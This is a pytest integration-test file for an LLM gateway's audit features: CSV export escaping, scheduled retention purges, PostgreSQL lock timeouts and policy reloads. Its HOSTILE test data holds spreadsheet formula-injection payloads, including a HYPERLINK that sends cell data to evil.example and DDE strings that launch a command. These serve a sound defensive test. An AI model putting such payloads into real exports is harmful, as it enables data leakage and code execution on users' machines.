"""Issue 44's smaller audit holes, each against a running gateway (the whole app, real
databases): formula cells in auditors' CSV exports, retention never enforced, audit writes
hanging behind another replica's lock on PostgreSQL, and a policy reload dropping the tenant
documents put through the API.

Each test carries its negative control: the old behaviour it catches is stated beside the
assertion that fails on it."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import shutil
import time
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import create_async_engine

from gateway.database import Payload, RequestRecord
from gateway.database.audit.retention import PURGE_ACTION
from gateway.database.base import RECORDS_LOCK
from gateway.serving.retention import ACTOR
from tests.integration.service.harness import ADMIN, Gateway, running_gateway, sqlite_gateway
from tests.pg import fresh_database

T = TypeVar("T")
POLICY_FILES = Path(__file__).resolve().parents[3] / "policies" / "bundles"
FAST = {"measure_costs": False}
"""Gateways without the start's forward timing: these tests decode a token or two."""
HOSTILE = {
    "target_model": '=HYPERLINK("http://evil.example/?leak="&A1,"open me")',
    "target_version": "+1+cmd|' /C calc'!A0",
    "draft_model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "draft_version": "-2+3",
    "request_id": "\t=1+1",
    "decision_id": "\r=1+1",
}


def hostile_record(**overrides: Any) -> RequestRecord:
    fields: dict[str, Any] = {
        "endpoint": "/v1/chat/completions",
        "status": 200,
        "tenant_id": "tenant-a",
        "mode": "speculative",
        **HOSTILE,
    }
    fields.update(overrides)
    return RequestRecord(**fields)


# -- 1. CSV export: no formula cells -------------------------------------------------------


async def test_csv_export_escapes_formula_cells(tiny_manifest: Path, tmp_path: Path) -> None:
    async with sqlite_gateway(tiny_manifest, tmp_path, **FAST) as gw:
        in_app(gw, gw.services.store.append, [(hostile_record(), None)])
        r = await gw.client.get("/audit/export", params={"format": "csv"}, headers=ADMIN)
        assert r.status_code == 200, r.text
        (row,) = [x for x in csv.DictReader(io.StringIO(r.text)) if x["tenant_id"] == "tenant-a"]
        for column, value in HOSTILE.items():
            # old code: the cell was the value itself, which a spreadsheet runs as a formula
            assert row[column] == "'" + value, column
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
        # JSON lines are data for programs, not spreadsheets: unchanged, still re-hashable
        r = await gw.client.get("/audit/export", params={"format": "jsonl"}, headers=ADMIN)
        assert HOSTILE["target_model"] in r.text.replace('\\"', '"')


# -- 2. Retention: a scheduled purge, recorded, the chain still verifiable -----------------


async def _wait_for(predicate: Any, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if await predicate():
            return True
        await asyncio.sleep(0.1)
    return False


async def test_retention_job_purges_on_schedule_records_it_and_keeps_the_chain(
    tiny_manifest: Path, tmp_path: Path
) -> None:
    old = datetime.now(UTC) - timedelta(days=3)
    async with sqlite_gateway(tiny_manifest, tmp_path, **FAST, retention_interval_s=1) as gw:
        store = gw.services.store
        expired, kept = in_app(
            gw,
            store.append,
            [
                (hostile_record(request_id="old", created_at=old), Payload("p", "c", 1)),
                (hostile_record(request_id="new"), Payload("p2", "c2", 30)),
            ],
        )

        async def purged() -> bool:
            return in_app(gw, store.record, expired)["payload"] is None  # type: ignore[index]

        # old code: nothing scheduled a purge, the expired payload stayed for good
        assert await _wait_for(purged, timeout=10), "the retention job never purged"
        assert in_app(gw, store.record, kept)["payload"] is not None  # type: ignore[index]
        events = (await gw.client.get("/audit/events", headers=ADMIN)).json()["data"]
        (event,) = [e for e in events if e["action"] == PURGE_ACTION]
        assert event["actor"] == ACTOR
        assert event["after"]["purged"] == 1
        assert event["after"]["first_record_id"] == event["after"]["last_record_id"] == expired
        verify = (await gw.client.get("/audit/verify", headers=ADMIN)).json()
        assert verify["ok"] is True and verify["payloads"]["checked"] == 1, verify
        assert verify["admin_events"]["ok"] is True
        # a second run finds nothing: it writes no event (hourly, on every replica)
        await asyncio.sleep(1.5)
        events = (await gw.client.get("/audit/events", headers=ADMIN)).json()["data"]
        assert [e["action"] for e in events].count(PURGE_ACTION) == 1


async def test_retention_interval_zero_disables_the_job(
    tiny_manifest: Path, tmp_path: Path
) -> None:
    async with sqlite_gateway(tiny_manifest, tmp_path, **FAST, retention_interval_s=0) as gw:
        assert gw.services.retention is None


# -- 3. PostgreSQL: lock and statement timeouts, a clear 503 -------------------------------


async def _under_lock(
    gw: Gateway, url: str, lock_sql: str, held_ms: int, call: Callable[[], Awaitable[Any]]
) -> tuple[Any, float]:
    """Take ``lock_sql`` in an open transaction of a second connection, a replica stuck
    there (the server ends it after ``held_ms``: its idle_in_transaction_session_timeout),
    and ``call`` the gateway meanwhile; (its response, seconds taken). The test client calls
    the app on a thread of its own and blocks this loop meanwhile, so the lock's end must
    come from the server, not from this test."""
    settings = {"idle_in_transaction_session_timeout": str(held_ms)}
    stuck = create_async_engine(url, connect_args={"server_settings": settings})
    try:
        conn = await stuck.connect()
        await conn.begin()
        await conn.execute(text(lock_sql))
        started = time.monotonic()
        response = await call()
        elapsed = time.monotonic() - started
        with contextlib.suppress(Exception):  # the server may have ended it already
            await conn.close()
        return response, elapsed
    finally:
        await stuck.dispose()


async def _completion_under_lock(
    gw: Gateway, url: str, lock_sql: str, held_ms: int
) -> tuple[Any, float]:
    return await _under_lock(
        gw, url, lock_sql, held_ms, lambda: gw.complete(max_tokens=2, temperature=0)
    )


def in_app(gw: Gateway, fn: Callable[..., Awaitable[T]], *args: Any) -> T:
    """``await fn(*args)`` on the app's own event loop (its database connections are
    bound to it)."""
    with gw.client.portal() as portal:
        return portal.call(fn, *args)


LOCKS = {
    "a replica stuck in its chain append": f"SELECT pg_advisory_xact_lock({RECORDS_LOCK})",
    "a table lock on the records": "LOCK TABLE audit_records IN ACCESS EXCLUSIVE MODE",
}


@pytest.mark.postgres
async def test_a_stuck_replica_means_a_prompt_503_not_a_hang(
    tiny_manifest: Path, tmp_path: Path
) -> None:
    async with (
        fresh_database("locks") as url,
        running_gateway(
            tiny_manifest,
            url,
            tmp_path,
            database_lock_timeout_ms=400,
            retention_interval_s=0,
            **FAST,
        ) as gw,
    ):
        assert (await gw.complete(max_tokens=2)).status_code == 200
        for what, lock_sql in LOCKS.items():
            r, elapsed = await _completion_under_lock(gw, url, lock_sql, held_ms=6000)
            # old code: no lock_timeout, the request waited for as long as the lock was held
            assert r.status_code == 503, (what, elapsed, r.text)
            assert r.json()["error"]["code"] == "audit_unavailable"
            assert r.json()["error"]["type"] == "service_unavailable_error"
            assert "choices" not in r.json() and int(r.headers["retry-after"]) >= 1
            assert 0.4 <= elapsed < 4, (what, elapsed)
            await asyncio.sleep(2.1)  # the recorder's pause after a failure
            assert (await gw.complete(max_tokens=2)).status_code == 200, what
        served = {x["request_id"] for x in await gw.records()}
        assert len(served) >= 3
        # an auditor's read behind the lock: 503 too (old code: a 500, or a wait)
        r, elapsed = await _under_lock(
            gw,
            url,
            LOCKS["a table lock on the records"],
            6000,
            lambda: gw.client.get("/audit/records", headers=ADMIN),
        )
        assert r.status_code == 503 and r.json()["error"]["code"] == "audit_unavailable"
        assert elapsed < 4
        assert (await gw.client.get("/audit/verify", headers=ADMIN)).json()["ok"] is True


def _session_limits(gw: Gateway) -> list[str]:
    async def show() -> list[str]:
        async with gw.services.store.engine.connect() as conn:
            names = ("lock_timeout", "statement_timeout", "idle_in_transaction_session_timeout")
            return [(await conn.execute(text(f"SHOW {name}"))).scalar() for name in names]

    return in_app(gw, show)


@pytest.mark.postgres
async def test_the_limits_are_the_documented_defaults_and_zero_is_the_old_hang(
    tiny_manifest: Path, tmp_path: Path
) -> None:
    """The negative control: with the limits at 0 (what every connection had before) the
    same stuck replica holds the request for as long as it is stuck."""
    async with (
        fresh_database("nolimit") as url,
        running_gateway(
            tiny_manifest,
            url,
            tmp_path,
            database_lock_timeout_ms=0,
            database_statement_timeout_ms=0,
            database_idle_in_transaction_timeout_ms=0,
            retention_interval_s=0,
            **FAST,
        ) as gw,
    ):
        assert _session_limits(gw) == ["0", "0", "0"]
        r, elapsed = await _completion_under_lock(gw, url, LOCKS[next(iter(LOCKS))], 2500)
        assert r.status_code == 200 and elapsed >= 2.4  # waited until the stuck one ended
    async with (
        fresh_database("limits") as url,
        running_gateway(tiny_manifest, url, tmp_path / "2", retention_interval_s=0, **FAST) as gw,
    ):
        assert _session_limits(gw) == ["5s", "15s", "1min"]


# -- 4. Policy reload keeps the tenant documents put through the API -----------------------


async def _resolved_mode(gw: Gateway, tenant: str) -> str:
    r = await gw.client.post(
        "/admin/policies/resolve",
        json={"tenant": tenant, "request": {"model": "tiny-target", "max_tokens": 8}},
        headers=ADMIN,
    )
    assert r.status_code == 200, r.text
    return r.json()["decision"]["resolved_mode"]  # type: ignore[no-any-return]


async def test_policy_reload_keeps_api_put_tenant_documents(
    tiny_manifest: Path, tmp_path: Path
) -> None:
    files = tmp_path / "policies"
    shutil.copytree(POLICY_FILES, files)
    async with sqlite_gateway(
        tiny_manifest, tmp_path, **FAST, retention_interval_s=0, policies=str(files)
    ) as gw:
        tenants = [gw.tenant, "acme"]  # no file of its own / one in tenants/acme.yaml
        before = {t: await _resolved_mode(gw, t) for t in tenants}
        for tenant in tenants:
            doc = {"mode": "speculative", "rate_limits": {"requests_per_minute": 7}}
            r = await gw.client.put(f"/admin/policies/tenants/{tenant}", json=doc, headers=ADMIN)
            assert r.status_code == 200, r.text
        assert [await _resolved_mode(gw, t) for t in tenants] == ["speculative"] * 2
        assert before[gw.tenant] != "speculative"  # the document is what makes the difference
        assert await _resolved_mode(gw, "labs") == "speculative"  # tenants/labs.yaml
        labs = files / "tenants" / "labs.yaml"
        labs.write_text(labs.read_text().replace("mode: speculative", "mode: standard"))

        r = await gw.client.post("/admin/policies/reload", headers=ADMIN)
        assert r.status_code == 200, r.text
        assert r.json()["changed"] is True
        # old code: the bundle was rebuilt from the files only; both fell back to them
        for tenant in tenants:
            assert await _resolved_mode(gw, tenant) == "speculative", tenant
        assert await _resolved_mode(gw, "labs") == "standard"  # the changed file applies
        bundle = (await gw.client.get("/admin/policies", headers=ADMIN)).json()["bundle"]
        for tenant in tenants:
            assert bundle["tenants"][tenant]["rate_limits"]["requests_per_minute"] == 7
        # and what a replica would re-read agrees: no stored version was lost or duplicated
        stored = in_app(gw, gw.services.store.list_policies, gw.tenant)
        assert [row["version"] for row in stored] == [1]


async def test_policy_reload_refuses_files_a_stored_document_no_longer_fits(
    tiny_manifest: Path, tmp_path: Path
) -> None:
    """A reload is all or nothing: a new default that a stored document breaks is refused,
    naming the problem, and the active bundle stays."""
    files = tmp_path / "policies"
    shutil.copytree(POLICY_FILES, files)
    async with sqlite_gateway(
        tiny_manifest, tmp_path, **FAST, retention_interval_s=0, policies=str(files)
    ) as gw:
        doc = {"speculation": {"k": {"min": 3}}}
        r = await gw.client.put(f"/admin/policies/tenants/{gw.tenant}", json=doc, headers=ADMIN)
        assert r.status_code == 200, r.text
        revision = (await gw.client.get("/admin/policies", headers=ADMIN)).json()["revision"]
        default = files / "default.yaml"
        text_before = default.read_text()
        assert "k: {min: 1, max: 8}" in text_before
        default.write_text(text_before.replace("k: {min: 1, max: 8}", "k: {min: 1, max: 2}"))
        r = await gw.client.post("/admin/policies/reload", headers=ADMIN)
        assert r.status_code == 400, r.text
        assert "stored through the API" in r.json()["error"]["message"]
        after = (await gw.client.get("/admin/policies", headers=ADMIN)).json()["revision"]
        assert after == revision
